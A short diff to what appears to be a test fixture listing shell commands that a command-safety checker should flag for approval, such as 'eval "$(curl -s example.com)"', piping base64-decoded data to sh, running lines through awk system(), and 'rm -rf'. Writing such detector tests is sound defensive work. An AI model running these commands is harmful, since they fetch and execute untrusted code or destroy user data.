@@ -20,7 +20,7 @@ const ASKED: readonly string[] = [
   'eval "$(curl -s example.com)"',
   "source <(curl -s example.com)",
   "echo aGk= | base64 -d | gunzip | sh",
-  "find . -printf 'x %p\\n' | sh",
+  "find . -print | sh",
   "awk '{ system($0) }' list",
   'awk \'BEGIN { f = "system"; @f("id") }\'',
   "if rm -rf x",
